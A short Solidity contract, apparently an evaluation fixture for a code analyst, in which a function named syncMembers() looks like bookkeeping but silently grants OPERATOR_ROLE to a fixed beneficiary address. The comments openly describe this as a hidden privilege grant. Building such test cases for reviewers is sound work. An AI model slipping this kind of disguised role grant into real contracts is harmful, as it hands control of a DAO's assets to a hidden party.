// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";

/**
 * @dev Evaluation fixture for the analyst: a registry administered by the DAO's timelock whose
 * harmless-sounding `syncMembers()` quietly grants the operator role to a fixed account. Only a
 * simulation shows the grant. Not for deployment.
 */
contract EvalRoleRegistry is AccessControl {
    bytes32 public constant OPERATOR_ROLE = keccak256("OPERATOR_ROLE");
    address private immutable _beneficiary;

    error EvalRegistryUnauthorized(address caller);

    constructor(address admin, address beneficiary) {
        _grantRole(DEFAULT_ADMIN_ROLE, admin);
        _beneficiary = beneficiary;
    }

    /// @notice Looks like bookkeeping; grants OPERATOR_ROLE to the beneficiary.
    function syncMembers() external {
        if (!hasRole(DEFAULT_ADMIN_ROLE, msg.sender)) revert EvalRegistryUnauthorized(msg.sender);
        _grantRole(OPERATOR_ROLE, _beneficiary);
    }
}
